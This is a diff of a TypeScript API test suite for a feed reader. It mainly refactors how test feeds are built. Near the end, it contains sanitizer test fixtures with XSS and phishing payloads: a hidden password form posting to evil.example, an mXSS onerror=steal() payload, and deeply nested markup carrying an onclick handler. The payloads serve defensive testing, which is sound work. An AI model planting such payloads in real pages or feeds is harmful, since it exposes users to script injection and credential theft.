@@ -12,6 +12,8 @@ interface Item {
 }
 type Member = Awaited<ReturnType<World['member']>>;
 
+const asking = { title: 'On asking', html: '<p>How to ask a good question.</p>' };
+const listening = { title: 'On listening', html: '<p>How to listen.</p>' };
 const PORT_OF_NOBODY = 'http://127.0.0.1:9/feed';
 
 /** A feed of one author with these items. */
@@ -38,26 +40,11 @@ describe.each(engines)('sources over the API on %s', (engine) => {
   beforeEach(async () => {
     world = await makeWorld({ engine });
     [anna, bo] = [await world.member('anna'), await world.member('bo')];
-    answers = new Map([
-      [
-        '/feed',
-        {
-          type: 'application/rss+xml',
-          body: feedOf('Notes of Mira Lindqvist', [
-            { title: 'On asking', html: '<p>How to ask a good question.</p>' },
-            { title: 'On listening', html: '<p>How to listen.</p>' },
-          ]),
-        },
-      ],
-      [
-        '/',
-        {
-          type: 'text/html',
-          body: `<title>Mira Lindqvist</title><link rel="alternate" type="application/rss+xml" href="/feed">`,
-        },
-      ],
-      ['/plain', { type: 'text/html', body: '<title>Nothing to follow</title>' }],
-    ]);
+    answers = new Map();
+    putFeed('/feed', 'Notes of Mira Lindqvist', [asking, listening]);
+    const link = '<link rel="alternate" type="application/rss+xml" href="/feed">';
+    answers.set('/', { type: 'text/html', body: `<title>Mira Lindqvist</title>${link}` });
+    answers.set('/plain', { type: 'text/html', body: '<title>Nothing to follow</title>' });
     server = createServer((request, response) => {
       const answer = answers.get(request.url ?? '');
       response.writeHead(answer ? 200 : 404, { 'content-type': answer?.type ?? 'text/plain' });
@@ -72,6 +59,8 @@ describe.each(engines)('sources over the API on %s', (engine) => {
     await new Promise((resolve) => server.close(resolve));
   });
 
+  const putFeed = (path: string, title: string, items: Item[]) =>
+    answers.set(path, { type: 'application/rss+xml', body: feedOf(title, items) });
   const ask = async (as: Member, method: string, path: string, body?: unknown) =>
     world.ask(method, `/api/v1${path}`, { as, ...(body === undefined ? {} : { body }) });
   const json = async <Answer>(as: Member, path: string) => {
@@ -166,7 +155,7 @@ describe.each(engines)('sources over the API on %s', (engine) => {
 
   it('stand first when in trouble, with words and advice', async () => {
     const well = await follow(anna, { url: `${site}/feed` });
-    answers.set('/other', { type: 'application/rss+xml', body: feedOf('Other', []) });
+    putFeed('/other', 'Other', []);
     const ill = await follow(anna, { url: `${site}/other` });
     answers.delete('/other');
     await world.settle();
@@ -199,8 +188,7 @@ describe.each(engines)('sources over the API on %s', (engine) => {
     const { sourceId, personId } = await follow(anna, { url: `${site}/feed` });
     await world.settle();
     const before = { sources: await sourcesOf(anna), entries: await entriesBy(anna, personId) };
-    const title = 'Notes of Mira Lindqvist';
-    answers.set('/feed', { type: 'application/rss+xml', body: feedOf(title, []) });
+    putFeed('/feed', 'Notes of Mira Lindqvist', []);
     expect((await ask(anna, 'DELETE', `/sources/${sourceId}`)).status).toBe(204);
     expect(await sourcesOf(anna)).toEqual([]);
     expect(await entriesBy(anna, personId)).toEqual([]);
@@ -242,18 +230,15 @@ describe.each(engines)('sources over the API on %s', (engine) => {
 
   it('are looked at now, with progress that ends', async () => {
     await follow(anna, { url: `${site}/feed` });
-    answers.set('/other', { type: 'application/rss+xml', body: feedOf('Other', []) });
-    const gone = await follow(anna, { url: `${site}/other` });
+    putFeed('/other', 'Other', []);
+    await follow(anna, { url: `${site}/other` });
     await world.settle();
     world.advance(1000);
-    answers.set('/feed', {
-      type: 'application/rss+xml',
-      body: feedOf('Notes', [
-        { title: 'On asking', html: '<p>How to ask a good question.</p>' },
-        { title: 'On listening', html: '<p>How to listen.</p>' },
-        { title: 'On waiting', html: '<p>How to wait.</p>' },
-      ]),
-    });
+    putFeed('/feed', 'Notes', [
+      asking,
+      listening,
+      { title: 'On waiting', html: '<p>How to wait.</p>' },
+    ]);
     answers.delete('/other');
     const progress = async () =>
       (await json<{ progress: Progress | null }>(anna, '/refresh')).progress;
@@ -269,7 +254,6 @@ describe.each(engines)('sources over the API on %s', (engine) => {
       entriesTotal: 3,
       isDone: true,
     });
-    expect(gone.isNew).toBe(true);
   });
 
   it('end a look at them though one is left and forgotten meanwhile', async () => {
@@ -289,13 +273,10 @@ describe.each(engines)('sources over the API on %s', (engine) => {
 <form action="https://evil.example/"><input name="password"></form><style>*{display:none}</style>
 <math><mtext><style><img src=x onerror=steal()></style></mtext></math>
 <a href="https://good.example/" target="_top">a good link</a>`;
-    answers.set('/feed', {
-      type: 'application/rss+xml',
-      body: feedOf('Notes', [
-        { title: '&lt;img src=x onerror=steal()&gt; A title', html: hostile },
-        { title: 'Deep', html: `${'<div>'.repeat(5_000)}<b onclick=steal()>x</b>` },
-      ]),
-    });
+    putFeed('/feed', 'Notes', [
+      { title: '&lt;img src=x onerror=steal()&gt; A title', html: hostile },
+      { title: 'Deep', html: `${'<div>'.repeat(5_000)}<b onclick=steal()>x</b>` },
+    ]);
     const { personId } = await follow(anna, { url: `${site}/feed` });
     await world.settle();
     const entries = await entriesBy(anna, personId);
